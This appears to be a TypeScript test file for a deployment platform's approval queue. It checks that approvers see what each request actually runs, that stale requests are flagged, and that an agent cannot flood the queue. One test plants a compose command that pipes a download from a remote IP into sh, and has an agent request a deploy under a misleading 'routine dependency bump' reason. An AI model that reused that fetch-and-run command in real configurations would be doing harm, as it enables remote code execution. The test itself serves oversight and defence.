import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { data, readyService, runToSuccess } from './support/deployments.js';
import { bearer, call, cookieAuth, memberWithRole, signUp } from './support/identity.js';
import { startTestApp, type TestApp } from './support/test-app.js';

type Auth = Record<string, string>;

interface Frozen {
  imageRef: string | null;
  server: { id: string; name: string | null } | null;
  snapshotDigest: string | null;
  envNames: string[];
  stale: boolean;
  changes: {
    image: { from: string | null; to: string } | null;
    compose: string | null;
    env: { name: string; change: string; secret: boolean }[];
  } | null;
  restore: { backupId: string; command: string | null } | null;
}
interface Queued {
  id: string;
  action: string;
  requestedBy: { principalId: string };
  payload: Record<string, unknown>;
  frozen: Frozen;
}
type QueuePage = { items: Queued[]; nextCursor: string | null };

/**
 * The approval queue as those who decide read it: what each request runs, not only what its
 * requester wrote; every request reachable page by page however many there are; and no
 * requester able to bury the others' requests under its own.
 */
describe('the approval queue', () => {
  let t: TestApp;
  let owner: Auth;
  let op: Auth;
  /** Decides the agent's requests: the owner created the agent, so may not. */
  let op2: Auth;
  let agent: Auth;
  let serviceId: string;
  let serverId: string;

  const post = (auth: Auth, name: string, input: unknown) => call(t.url, 'POST', name, auth, input);
  const queue = async (input: Record<string, unknown>) =>
    data<QueuePage>(await call(t.url, 'GET', 'approvalQueue', owner, input));
  /** Every pending request, page by page. */
  const everyPending = async (limit: number) => {
    const all: Queued[] = [];
    let cursor: string | undefined;
    do {
      const page = await queue({ status: 'pending', limit, ...(cursor ? { cursor } : {}) });
      expect(page.items.length).toBeLessThanOrEqual(limit);
      all.push(...page.items);
      cursor = page.nextCursor ?? undefined;
    } while (cursor);
    return all;
  };

  beforeAll(async () => {
    t = await startTestApp({ notes: false });
    owner = cookieAuth((await signUp(t.url, 'owner@example.com')).cookie);
    op = await memberWithRole(t.url, owner, 'op@example.com', 'operator');
    op2 = await memberWithRole(t.url, owner, 'op2@example.com', 'operator');
    ({ serviceId, serverId } = await readyService(t.url, owner, { approvalRule: 'agents' }));
    const { principalId } = data<{ principalId: string }>(
      await post(owner, 'createAgent', { name: 'flood', preset: 'agent:full' }),
    );
    const { token } = data<{ token: string }>(
      await post(owner, 'generateAgentToken', {
        principalId,
        tokenName: 'flood',
        expiresInDays: 7,
      }),
    );
    agent = bearer(token);
  }, 60_000);
  afterAll(async () => t?.close());

  it('shows what a deploy runs: image, server, env names, and its changes against what runs now', async () => {
    const v1 = data<{ deploymentId: string }>(
      await post(owner, 'triggerDeploy', { serviceId, imageTag: '1.0.0' }),
    ).deploymentId;
    await runToSuccess(t.app, v1, serviceId, 'ghcr.io/acme/api:1.0.0');
    data(
      await post(owner, 'updateService', {
        serviceId,
        compose:
          'services:\n  api:\n    image: ghcr.io/acme/api:1.0.0\n    ports: ["8080:80"]\n    command: [sh, -c, "wget -qO- http://203.0.113.9/x | sh"]\n',
        setEnv: [{ name: 'EXFIL', value: 'yes' }],
      }),
    );
    const asked = data<{ approvalId: string }>(
      await post(agent, 'triggerDeploy', {
        serviceId,
        imageTag: '1.2.0',
        reason: 'routine dependency bump',
      }),
    );
    const shown = (await queue({ status: 'pending' })).items.find(
      (a) => a.id === asked.approvalId,
    )!;
    expect(shown.payload.imageRef).toBe('ghcr.io/acme/api:1.2.0');
    expect(shown.payload).not.toHaveProperty('snapshot');
    expect(shown.frozen).toMatchObject({
      imageRef: 'ghcr.io/acme/api:1.2.0',
      server: { id: serverId, name: 'api-host' },
      snapshotDigest: expect.stringMatching(/^sha256:/),
      envNames: expect.arrayContaining(['DATABASE_URL', 'EXFIL']),
      stale: false,
      restore: null,
    });
    expect(shown.frozen.changes).toMatchObject({
      image: { from: 'ghcr.io/acme/api:1.0.0', to: 'ghcr.io/acme/api:1.2.0' },
      env: [{ name: 'EXFIL', change: 'added', secret: false }],
    });
    expect(shown.frozen.changes!.compose).toContain('+    command: [sh, -c, "wget');
    // The service changed since: the queue says the request is stale before anyone approves.
    data(await post(owner, 'updateService', { serviceId, removeEnv: ['EXFIL'] }));
    const after = (await queue({ status: 'pending' })).items.find(
      (a) => a.id === asked.approvalId,
    )!;
    expect(after.frozen.stale).toBe(true);
    data(await post(op2, 'rejectRequest', { approvalId: asked.approvalId }));
  });

  it('shows a rollback’s target image and a restore’s backup and command', async () => {
    const { items } = data<{ items: { id: string; status: string }[] }>(
      await call(t.url, 'GET', 'recentDeployments', owner, { serviceId, status: 'succeeded' }),
    );
    const rollback = data<{ approvalId: string }>(
      await post(agent, 'executeRollback', {
        serviceId,
        targetDeploymentId: items[0].id,
        reason: 'the new one is broken',
      }),
    );
    data(await post(owner, 'updateService', { serviceId, restoreCommand: 'psql app' }));
    const { backupId } = data<{ backupId: string }>(
      await post(owner, 'recordBackup', {
        serviceId,
        location: 'backups/api/1.dump',
        checksum: `sha256:${'b'.repeat(64)}`,
        sizeBytes: 3,
      }),
    );
    const restore = data<{ approvalId: string }>(
      await post(agent, 'requestApproval', {
        action: 'restore',
        serviceId,
        backupId,
        reason: 'restore last night’s data',
      }),
    );
    const pending = (await queue({ status: 'pending' })).items;
    expect(pending.find((a) => a.id === rollback.approvalId)!.frozen.imageRef).toBe(
      'ghcr.io/acme/api:1.0.0',
    );
    expect(pending.find((a) => a.id === restore.approvalId)!.frozen).toMatchObject({
      imageRef: null,
      server: { id: serverId },
      restore: { backupId, command: 'psql app' },
    });
    for (const approvalId of [rollback.approvalId, restore.approvalId])
      data(await post(op2, 'rejectRequest', { approvalId }));
  });

  it('caps a requester’s waiting requests, and pages the queue so that no request is out of reach', async () => {
    const flood = await Promise.all(
      Array.from({ length: 25 }, (_, i) =>
        post(agent, 'triggerDeploy', {
          serviceId,
          imageTag: `2.0.${i}`,
          reason: 'flooding the approval queue',
        }),
      ),
    );
    const filed = flood.filter((r) => r.status === 200);
    const refused = flood.filter((r) => r.status !== 200);
    expect(filed).toHaveLength(20);
    expect(refused.map((r) => [r.status, r.body.error?.data?.reason])).toEqual(
      Array.from({ length: 5 }, () => [409, 'too-many-pending']),
    );
    expect(refused[0].body.error.message).toMatch(/20 approval requests waiting/);

    // Someone else's request is filed all the same, and found page by page.
    const urgent = data<{ approvalId: string }>(
      await post(op, 'requestApproval', {
        action: 'deploy',
        serviceId,
        imageTag: 'ghcr.io/acme/api:2.1.0',
        reason: 'urgent security fix, please look',
      }),
    );
    const all = await everyPending(7);
    expect(all).toHaveLength(21);
    expect(new Set(all.map((a) => a.id)).size).toBe(21);
    expect(all[all.length - 1].id).toBe(urgent.approvalId);

    // A decided request frees its place for the next one.
    const first = all.find((a) => a.action === 'deploy' && a.id !== urgent.approvalId)!;
    data(await post(op2, 'rejectRequest', { approvalId: first.id }));
    const next = await post(agent, 'triggerDeploy', {
      serviceId,
      imageTag: '2.0.99',
      reason: 'one more after a decision',
    });
    expect(data<{ status: string }>(next).status).toBe('pending_approval');
  });
});
